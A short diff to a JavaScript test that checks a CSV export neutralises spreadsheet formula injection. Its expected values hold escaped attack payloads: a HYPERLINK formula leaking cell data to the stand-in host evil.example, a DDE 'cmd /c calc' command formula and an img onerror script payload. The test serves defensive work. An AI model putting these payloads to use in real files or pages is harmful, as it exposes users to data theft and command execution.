@@ -125,8 +125,8 @@ describe('digest', () => {
     expect(lines).toHaveLength(10);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
     expect(csv).toContain(`"'@SUM(1+1)*cmd|""/c calc""!A0"`);
-    expect(csv).toContain(`,'+1-2,`);
-    expect(csv).toContain(`"<img src=x onerror=alert(1)>"`);
+    expect(csv).toContain(`,"'+1-2",`);
+    expect(csv).toContain(`,<img src=x onerror=alert(1)>,`);
     // No cell of the CSV starts a formula.
     for (const line of lines) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
 
